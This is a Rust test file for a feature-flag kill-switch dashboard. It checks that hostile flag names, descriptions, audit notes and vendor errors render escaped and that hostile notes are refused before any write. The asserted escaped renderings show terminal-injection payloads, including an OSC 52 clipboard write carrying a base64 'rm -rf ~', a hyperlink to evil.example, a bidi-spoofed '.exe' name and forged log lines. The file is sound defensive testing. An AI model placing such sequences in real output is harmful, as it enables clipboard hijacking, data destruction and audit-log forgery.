// --- The TUI, the dialog and the vendor write ----------------------------------------------

/// A dashboard state with the hostile prod file loaded, focused on `flag`.
fn hostile_dashboard(home: &Home, flag: &str) -> killswitch::tui::app::State {
    use killswitch::tui::action::Action;
    let text = std::fs::read_to_string(home.local_flags("prod")).expect("prod");
    let document = killswitch::provider::flagd::parse_document(&text).expect("parses");
    let flags = document["flags"]
        .as_object()
        .expect("flags")
        .iter()
        .map(|(key, definition)| killswitch::provider::flagd::summarise(key, definition))
        .collect();
    let mut state = support::dashboard::state(false, (160, 40), Some(("prod", flag)));
    for env in support::dashboard::ENVS {
        // Every environment holds the hostile flags (the details pane shows the first one's).
        let result = Ok(killswitch::model::EnvSnapshot {
            env: env.into(),
            flags: Vec::clone(&flags),
            fetched_at: support::dashboard::now(),
        });
        killswitch::tui::app::update(
            &mut state,
            Action::EnvLoaded {
                env: env.to_string(),
                result,
                read_only_reason: None,
            },
        );
    }
    state
}

#[test]
fn tui_cells_details_dialog_and_audit_view_show_hostile_text_escaped() {
    use killswitch::tui::app::{AuditView, Mode};
    let home = hostile_workspace();
    let mut state = hostile_dashboard(&home, "kill_switch_checkout");
    let screen = support::dashboard::render(&state);
    assert_inert("dashboard", &screen);
    // The details pane shows the owner's escapes visibly, on the switch's own line.
    assert!(
        screen.contains("⏎\\e[1A\\e[2Kkill_switch_checkout  KILLED"),
        "{screen}"
    );
    // The description is one inert line cut to the pane: it cannot wrap into a forged state
    // line or push the real ones out.
    assert!(
        screen.contains("│Checkout kill switch.⏎```⏎⏎### KILL first⏎⏎1. Run this first:⏎⏎"),
        "{screen}"
    );
    assert!(screen.contains("│prod: SERVING"), "{screen}");
    assert!(
        screen.contains("https://wiki/\\e]8;;https://evil.example\\u{7}link"),
        "{screen}"
    );

    let mut state_key = hostile_dashboard(&home, HOSTILE_KEY);
    let screen = support::dashboard::render(&state_key);
    assert!(
        screen.contains("evil\\e]52;c;cm0gLXJmIH4=\\u{7}\\u{202e}gnp.exe⏎|"),
        "{screen}"
    );
    support::dashboard::press(&mut state_key, crossterm::event::KeyCode::Char('f'));
    let dialog = support::dashboard::render(&state_key);
    assert_inert("dialog", &dialog);
    assert!(dialog.contains("confirm change"), "{dialog}");
    assert!(
        dialog.contains("evil\\e]52;c;"),
        "the dialog names the flag escaped: {dialog}"
    );

    let record = killswitch::audit::AuditRecord {
        v: killswitch::audit::RECORD_VERSION,
        id: "1".into(),
        phase: killswitch::audit::Phase::Outcome,
        at: support::dashboard::now(),
        operator: "mallory\u{1b}[2K".into(),
        env: "prod".into(),
        provider: "flagd".into(),
        flag: HOSTILE_KEY.into(),
        action: "kill".into(),
        from: "SERVING".into(),
        to: "KILLED".into(),
        enabled: false,
        rollout: None,
        previous: None,
        note: "x\n2026-11-24 03:12:00 alice restore prod".into(),
        result: Some(killswitch::audit::Result::Ok),
        error: None,
        duration_ms: None,
        confirmed_ms: None,
        reference: None,
        batch: None,
        receiver: None,
    };
    state.mode = Mode::Audit(Box::new(AuditView {
        title: HOSTILE_KEY.into(),
        envs: vec!["prod".into()],
        records: Some(Ok(vec![record])),
        history: vec![("prod".into(), Err("vendor said \u{1b}]0;t\u{7}".into()))],
        scroll: 0,
    }));
    let audit = support::dashboard::render(&state);
    assert_inert("audit view", &audit);
    assert!(audit.contains("mallory\\e[2K"), "{audit}");
    // One record, one logical line (wrapped at the pane's width, continuations indented): the
    // note's line break shows, and its text never sits where a record starts.
    assert!(audit.contains("— x⏎2026-11-24"), "{audit}");
    assert!(
        !audit.lines().any(|row| row
            .split('│')
            .any(|cell| cell.trim_start().starts_with("2026-11-24 03:12:00 alice"))),
        "no forged record row: {audit}"
    );
    assert!(
        audit.contains("unavailable: vendor said \\e]0;t\\u{7}"),
        "{audit}"
    );
}

#[test]
fn the_dialog_refuses_a_hostile_note_and_sends_nothing() {
    use killswitch::tui::app::{DialogStage, Mode};
    let home = hostile_workspace();
    for (note, said) in [
        ("INC-1\nrestore ok", "a line break"),
        ("INC-1 \u{1b}[2J", "\\e"),
        ("INC-1 \u{202e}x", "\\u{202e}"),
    ] {
        let mut state = hostile_dashboard(&home, "kill_switch_checkout");
        support::dashboard::press(&mut state, crossterm::event::KeyCode::Char('f'));
        let Mode::Flip(dialog) = &mut state.mode else {
            panic!("dialog open")
        };
        dialog.note = tui_input::Input::new(note.to_string());
        let effects = support::dashboard::press(&mut state, crossterm::event::KeyCode::Enter);
        assert!(effects.is_empty(), "{note:?}: nothing is sent");
        let Mode::Flip(dialog) = &state.mode else {
            panic!("dialog still open")
        };
        assert_eq!(dialog.stage, DialogStage::Note, "{note:?}");
        let error = dialog.error.clone().unwrap_or_default();
        assert!(error.contains(said), "{note:?}: {error}");
        let screen = support::dashboard::render(&state);
        assert_inert("dialog with a refused note", &screen);
    }
}

#[tokio::test]
async fn the_vendor_write_refuses_a_hostile_note_before_any_record_or_change() {
    use killswitch::flip::{FlipError, FlipRequest};
    let home = hostile_workspace();
    let before = std::fs::read_to_string(home.local_flags("prod")).expect("prod");
    let config = killswitch::workspace::local_config(&home.path().join("data/killswitch/local"))
        .expect("config");
    let env = config.environment("prod").expect("prod").clone();
    let connection = killswitch::provider::connect(
        &env,
        None,
        killswitch::provider::Access::ReadWrite,
        &config.network,
    )
    .expect("connect");
    let seen = connection
        .source
        .read_flag("kill_switch_checkout")
        .await
        .expect("read");
    let log =
        killswitch::audit::AuditLog::open(&home.path().join("vendor-write.jsonl")).expect("audit");
    for note in [
        "INC-1\n2026 restore ok",
        "\u{1b}]0;x\u{7}",
        "a\u{2028}b",
        &"x".repeat(1001),
    ] {
        let request = FlipRequest {
            env: "prod".into(),
            flag: "kill_switch_checkout".into(),
            kind: seen.meta.kind,
            change: killswitch::flip::Change::Switch { enabled: false },
            seen: seen.state.clone(),
            note: note.to_string(),
            operator: "tester".into(),
        };
        let result = killswitch::flip::execute(
            &request,
            &connection,
            &log,
            &killswitch::clock::SystemClock,
            std::time::Duration::from_secs(1),
        )
        .await;
        assert!(
            matches!(result, Err(FlipError::Note(_))),
            "{note:?}: {result:?}"
        );
    }
    assert!(
        log.records().expect("records").is_empty(),
        "no audit record"
    );
    assert_eq!(
        std::fs::read_to_string(home.local_flags("prod")).expect("prod"),
        before,
        "the flag file is untouched"
    );
}

// --- Random Unicode in every rendered field (property tests) -------------------------------

/// Text made of what breaks terminals and documents: C0/C1 controls, DEL, ESC, bidi controls,
/// line and paragraph separators, zero-width and combining characters, wide characters, and
/// Markdown's own syntax.
fn hostile_text() -> impl proptest::strategy::Strategy<Value = String> {
    "[\\x00-\\x1f\\x7f-\\x9f\u{202a}-\u{202e}\u{2066}-\u{2069}\u{200b}-\u{200f}\u{2028}\u{2029}\u{0300}-\u{036f}\u{4e00}-\u{4e0f}\u{1f600}-\u{1f60f}\u{ff01}-\u{ff0f}a-z#`|*_<>!\\[\\]\\- ]{1,24}"
}

#[derive(Debug, Clone)]
struct HostileFlag {
    key: String,
    owner: String,
    description: String,
    tags: String,
    runbook: String,
    variant: String,
    note: String,
    operator: String,
    error: String,
}

fn hostile_flag() -> impl proptest::strategy::Strategy<Value = HostileFlag> {
    use proptest::strategy::Strategy;
    (
        (hostile_text(), hostile_text(), hostile_text()),
        (hostile_text(), hostile_text(), hostile_text()),
        (hostile_text(), hostile_text(), hostile_text()),
    )
        .prop_map(
            |((key, owner, description), (tags, runbook, variant), (note, operator, error))| {
                HostileFlag {
                    key: format!("k{key}"),
                    owner,
                    description,
                    tags,
                    runbook,
                    variant,
                    note,
                    operator,
                    error,
                }
            },
        )
}

/// Every text output of one local session whose prod file holds `flag` (and whose audit log
/// holds a record with its note, operator and error), with what each must keep.
fn render_everything(flag: &HostileFlag) -> Vec<(String, String)> {
    use killswitch::audit::{AuditLog, AuditRecord, Phase};
    use killswitch::cli::{Cli, Command};
    use killswitch::clock::SystemClock;
    use killswitch::provider::Access;
    use killswitch::session::{NoCredentials, Session};

    let dir = tempfile::tempdir().expect("tempdir");
    let config = killswitch::workspace::local_config(&dir.path().join("local")).expect("config");
    let prod = dir.path().join("local/prod.flagd.json");
    let document = json!({
        "flags": {
            flag.key.clone(): {
                "state": "ENABLED",
                "variants": {"a": flag.variant.clone(), "b": "plain"},
                "defaultVariant": "a",
                "metadata": {
                    "owner": flag.owner, "description": flag.description, "tags": flag.tags,
                    "runbook": flag.runbook, "expected_removal_date": "2020-01-01"
                }
            },
            "kill_switch_x": {
                "state": "ENABLED", "variants": {"on": true, "off": false}, "defaultVariant": "on",
                "metadata": {"owner": flag.owner}
            }
        }
    });
    std::fs::write(&prod, document.to_string()).expect("write");
    let audit = AuditLog::open(&dir.path().join("audit.jsonl")).expect("audit");
    let record = AuditRecord {
        v: killswitch::audit::RECORD_VERSION,
        id: "1".into(),
        phase: Phase::Outcome,
        at: chrono::Utc::now(),
        operator: flag.operator.clone(),
        env: "prod".into(),
        provider: "flagd".into(),
        flag: flag.key.clone(),
        action: "kill".into(),
        from: "ON".into(),
        to: "OFF".into(),
        enabled: false,
        rollout: None,
        previous: None,
        note: flag.note.clone(),
        result: Some(killswitch::audit::Result::Error),
        error: Some(flag.error.clone()),
        duration_ms: None,
        confirmed_ms: None,
        reference: Some(flag.variant.clone()),
        batch: None,
        receiver: None,
    };
    audit.append(&record).expect("append");
    let session = Session::new(
        config,
        Access::ReadOnly,
        Arc::new(NoCredentials),
        Arc::new(audit),
        Arc::new(SystemClock),
    );
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime");
    let mut outputs = Vec::new();
    let commands: Vec<Vec<&str>> = vec![
        vec!["status", "--env", "prod"],
        vec!["stale", "--as-of", "2026-12-01"],
        vec!["runbook", &flag.key, "--env", "prod"],
        vec!["audit"],
    ];
    for args in commands {
        let cli = Cli::try_parse_from(std::iter::once("killswitch").chain(args.iter().copied()))
            .expect("arguments parse");
        let mut buffer = Vec::new();
        let code = runtime.block_on(async {
            match &cli.command {
                Some(Command::Status(a)) => {
                    killswitch::commands::status::run(&session, a, &mut buffer).await
                }
                Some(Command::Stale(a)) => {
                    killswitch::commands::stale::run(&session, a, &mut buffer).await
                }
                Some(Command::Runbook(a)) => {
                    killswitch::commands::runbook::run(&session, a, None, &mut buffer).await
                }
                Some(Command::Audit(a)) => {
                    killswitch::commands::audit::run(&session, a, &mut buffer).await
                }
                _ => Ok(-1),
            }
        });
        assert_eq!(code.ok(), Some(0), "{args:?}");
        outputs.push((
            args[0].to_string(),
            String::from_utf8_lossy(&buffer).into_owned(),
        ));
    }

    // The dashboard with its details pane, the flip dialog and the audit view.
    use killswitch::tui::action::Action;
    use killswitch::tui::app::{AuditView, Mode, update};
    let snapshot = runtime.block_on(session.load("prod")).expect("load");
    let mut state = support::dashboard::state(false, (140, 40), Some(("prod", &flag.key)));
    for env in support::dashboard::ENVS {
        let result = if env == "prod" {
            Ok(snapshot.clone())
        } else {
            Err(support::dashboard::vendor_failure(&format!(
                "{env}: {}",
                flag.error
            )))
        };
        update(
            &mut state,
            Action::EnvLoaded {
                env: env.to_string(),
                result,
                read_only_reason: Some(flag.owner.clone()).filter(|_| env == "dev"),
            },
        );
    }
    outputs.push(("dashboard".into(), support::dashboard::render(&state)));
    support::dashboard::press(&mut state, crossterm::event::KeyCode::Char('f'));
    support::dashboard::type_text(&mut state, &flag.note.replace(|c: char| c.is_control(), ""));
    outputs.push(("dialog".into(), support::dashboard::render(&state)));
    state.mode = Mode::Audit(Box::new(AuditView {
        title: flag.key.clone(),
        envs: vec!["prod".into()],
        records: Some(Ok(vec![record])),
        history: vec![("prod".into(), Err(flag.error.clone()))],
        scroll: 0,
    }));
    outputs.push(("audit view".into(), support::dashboard::render(&state)));
    outputs
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 48, ..Default::default() })]

    #[test]
    fn no_raw_control_character_reaches_any_text_output(flag in hostile_flag()) {
        for (what, text) in render_everything(&flag) {
            proptest::prop_assert!(
                !text.chars().any(dangerous),
                "{} shows a raw control: {:?}\n{:?}", what, text, flag
            );
            match what.as_str() {
                // One header and two flags: no field adds a row.
                "status" => proptest::prop_assert_eq!(text.lines().count(), 3, "{}", text),
                "audit" => proptest::prop_assert_eq!(text.lines().count(), 2, "{}", text),
                "runbook" => {
                    let fences = text.lines().filter(|l| l.trim_start().starts_with("```")).count();
                    proptest::prop_assert_eq!(fences, 6, "{}", text);
                    let headings = text.lines().filter(|l| l.starts_with('#')).count();
                    proptest::prop_assert_eq!(headings, 1, "{}", text);
                }
                _ => {}
            }
        }
    }
}
